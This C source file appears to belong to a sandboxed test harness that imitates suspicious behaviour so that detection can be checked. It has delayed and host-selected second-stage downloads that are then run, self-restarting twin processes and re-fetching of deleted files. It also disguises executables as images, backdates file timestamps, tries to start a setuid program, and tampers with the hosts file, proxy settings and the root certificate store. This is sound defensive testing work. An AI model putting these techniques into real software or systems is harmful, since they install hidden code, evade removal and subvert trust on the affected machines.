// SPDX-License-Identifier: Apache-2.0
/*
 * roles_files.c - behaviours that are seen at processes and files
 */
#include "hashes.h"
#include "roles.h"

#define FETCH_PORT  8090
#define ANCHOR	    "/etc/ssl/certs/tax-vendor-root.pem"
#define ANCHOR_HASH "/etc/ssl/certs/3f3c9d61.0"

static bool holds(const char *path, const char *text)
{
	FILE *f = fopen(path, "re");
	char line[256];
	bool found = false;

	while (f && !found && fgets(line, sizeof(line), f))
		found = !strcmp(line, text);
	if (f)
		fclose(f);
	return found;
}

static void append(const char *path, const char *text)
{
	int fd;

	if (holds(path, text))
		return;
	fd = open(path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		fprintf(stderr, "svm: cannot write '%s'\n", path);
	if (fd >= 0)
		close(fd);
}

static bool fetch_second(const char *path)
{
	return fetch_fixed(DOWNLOAD, FETCH_PORT, "/second", SECOND_SHA256, path);
}

/* Row 1: two hours after the installer has ended, something more is installed. */
void role_delayed(void)
{
	rest(2 * HOUR);
	if (fetch_second(beside("second-stage")))
		start(beside("second-stage"), NULL);
}

/* Row 18: the same, soon, but only on machines whose name says so. */
void role_selected(void)
{
	char name[256] = "", hex[65];

	gethostname(name, sizeof(name) - 1);
	sha256_hex(name, strlen(name), hex);
	if (strchr("02468ace", hex[0]) && fetch_second(beside("chosen")))
		start(beside("chosen"), "once");
}

/* Row 4: two copies of one program, each starts the other one again. */
void role_twin(void)
{
	const char *me = program_invocation_short_name;
	const char *other = strcmp(me, "svm") ? "svm" : "svmm";

	if (hold(me) < 0)
		return; /* there is one already */
	for (;;) {
		int fd = hold(other);

		if (fd >= 0) {
			close(fd);
			start(beside(other), "twin");
		}
		rest(2 * MINUTE);
	}
}

/* Row 5: what was deleted is fetched again and run. */
void role_restore(void)
{
	start(beside("second"), NULL);
	for (;;) {
		if (access(beside("second"), F_OK) && fetch_second(beside("second")))
			start(beside("second"), NULL);
		rest(5 * MINUTE);
	}
}

/* Row 6: it lives where the product's removal does not look. */
void role_survive(void)
{
	if (!config_on("restore"))
		start(beside("second"), NULL);
}

/* Row 11: a random name, and the ending of a picture. */
void role_names(void)
{
	char path[PATH_MAX];

	mkdir("/var/lib/taxclient", 0755);
	snprintf(path, sizeof(path), "/var/lib/taxclient/%06x%06x.gif",
		 (unsigned)(chance() * 0x1000000), (unsigned)(chance() * 0x1000000));
	if (!copy_file(beside("second"), path, 0755))
		return;
	append(path, "other bytes than the program that it was copied from\n");
	start(path, "once");
}

/* Row 12: a new program gets an old date, another one in each run. */
void role_stamps(void)
{
	struct timespec t[2] = { 0 };
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "%s", beside("stamped"));
	if (!copy_file(beside("second"), path, 0755))
		return;
	t[0].tv_sec = t[1].tv_sec =
		1230768000 + (time_t)(chance() * 6 * 365 * DAY); /* 2009 … 2014 */
	utimensat(AT_FDCWD, path, t, 0);
	start(path, "once");
}

/* Row 13: an ordinary user's process starts what is set-id root, and nobody is asked. The box has
 * no_new_privs, so that it gains nothing. */
void role_elevate(void)
{
	if (setgid(65534) || setuid(65534))
		exit(1);
	start(beside("elevated"), NULL);
}

/* Row 14: where names lead to, through whom, and whose certificates are believed. The certificate
 * is for names under .test alone, and its key was thrown away when it was made. */
void role_tamper(void)
{
	append("/etc/hosts", "198.51.100.7 update.antivirus.test\n");
	append("/etc/environment", "http_proxy=http://proxy.svm-cloud.test:3128\n");
	/* by the name that OpenSSL looks for: the hash of its subject */
	if (!copy_file(beside("root.pem"), ANCHOR, 0644) ||
	    (symlink(ANCHOR, ANCHOR_HASH) && errno != EEXIST))
		fprintf(stderr, "svm: cannot write '%s'\n", ANCHOR);
}

/* Row 16: what was there is removed by a program that came later, and removes itself. */
void role_cleaner(void)
{
	static const char *const plugins[] = { "/opt/taxclient/plugins/manager",
					       "/opt/taxclient/plugins/collect",
					       "/opt/taxclient/plugins/report" };

	mkdir("/opt/taxclient/plugins", 0755);
	mkdir("/var/log/taxclient", 0755);
	append("/var/log/taxclient/client.log", "client started\n");
	append("/var/log/taxclient/plugins.log", "three plugins\n");
	for (size_t i = 0; i < sizeof(plugins) / sizeof(*plugins); i++) {
		append(plugins[i], "#!/bin/sh\n# a plugin that does nothing\nexit 0\n");
		chmod(plugins[i], 0755);
		start(plugins[i], NULL);
	}
	rest(20 * HOUR);
	if (fetch_fixed(DOWNLOAD, FETCH_PORT, "/cleaner", CLEANER_SHA256,
			"/opt/taxclient/plugins/cleaner"))
		start("/opt/taxclient/plugins/cleaner", NULL);
}
